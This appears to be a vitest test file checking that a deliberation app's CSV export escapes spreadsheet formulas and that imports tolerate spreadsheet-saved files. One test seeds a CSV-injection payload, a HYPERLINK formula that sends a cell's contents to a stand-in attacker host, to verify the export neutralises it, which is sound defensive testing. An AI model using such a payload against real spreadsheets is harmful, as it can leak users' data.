import { beforeAll, describe, expect, it } from 'vitest';
import { testService, type TestService } from '../../testing/service.js';

type Json = any;
let s: TestService;
beforeAll(async () => {
  s = await testService();
});
const base = (id: string) => `/api/assemblies/${s.assemblyId}/conversations/${id}`;
async function ok(res: Response, status = 200): Promise<Json> {
  const body = await res.text();
  if (res.status !== status) throw new Error(`expected ${status}, got ${res.status}: ${body}`);
  return body ? JSON.parse(body) : null;
}
const newConversation = async () => (await ok(await s.call('facilitator', 'POST', `/api/assemblies/${s.assemblyId}/conversations`, { topic: 'Spreadsheets' }), 201)).id as string;

describe('Pol.is export opened in a spreadsheet', () => {
  it('writes a formula statement as text, keeps votes as numbers, and imports it back unchanged', async () => {
    const id = await newConversation();
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const texts = [attack, '-1 is my answer', 'Buses every ten minutes'];
    for (const text of texts) await ok(await s.call('facilitator', 'POST', `${base(id)}/seed-statements`, { text }), 201);
    const stmts = await ok(await s.call('facilitator', 'GET', `${base(id)}/statements`));
    for (const st of stmts) await ok(await s.call('participant', 'POST', `${base(id)}/votes`, { statementId: st.id, vote: -1 }));
    const res = await s.call('researcher', 'GET', `${base(id)}/export/comments.csv`);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).toContain(",'-1 is my answer");
    expect(csv).not.toMatch(/,"?=HYPERLINK/);
    // every line of every file: no cell starts like a formula except plain numbers (the -1 votes)
    const out = await ok(await s.call('facilitator', 'GET', `${base(id)}/export`));
    expect(out.files['votes.csv']).toMatch(/,-1\n/);
    for (const f of Object.values(out.files) as string[]) for (const cell of f.split(/[,\n]/)) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+$/);
    // round trip: the imported statements are exactly the originals
    const id2 = await newConversation();
    const imp = await ok(await s.call('facilitator', 'POST', `${base(id2)}/imports`, { comments: out.files['comments.csv'], votes: out.files['votes.csv'], participantsVotes: out.files['participants-votes.csv'] }), 201);
    expect(imp.ignored).toEqual([]);
    const back = await ok(await s.call('facilitator', 'GET', `${base(id2)}/statements`));
    expect(back.map((x: Json) => x.text).sort()).toEqual([...texts].sort());
    const out2 = await ok(await s.call('facilitator', 'GET', `${base(id2)}/export`));
    expect(out2.files['comments.csv']).toBe(out.files['comments.csv']);
  });

  it('accepts files saved by a spreadsheet (BOM, semicolons, CRLF, empty trailing columns) and says what it ignored', async () => {
    const id = await newConversation();
    const comments = '\uFEFFtimestamp;comment-id;author-id;moderated;comment-body;;;\r\n1700000000000;0;0;1;Trams please;;;\r\n1700000000001;1;1;1;More bikes;;;\r\n';
    const votes = 'timestamp,comment-id,voter-id,vote,,\r\n1700000000002,0,1,1,,\r\n1700000000003,1,0,-1,,\r\n';
    const imp = await ok(await s.call('facilitator', 'POST', `${base(id)}/imports`, { comments, votes }), 201);
    expect(imp).toMatchObject({ statements: 2, participants: 2, votes: 2 });
    expect(imp.ignored).toEqual([
      'comments.csv: ignored 3 empty columns at the end (columns 6–8) and a byte-order mark at the start; read with semicolons as separators.',
      'votes.csv: ignored 2 empty columns at the end (columns 5–6).',
    ]);
  });
});
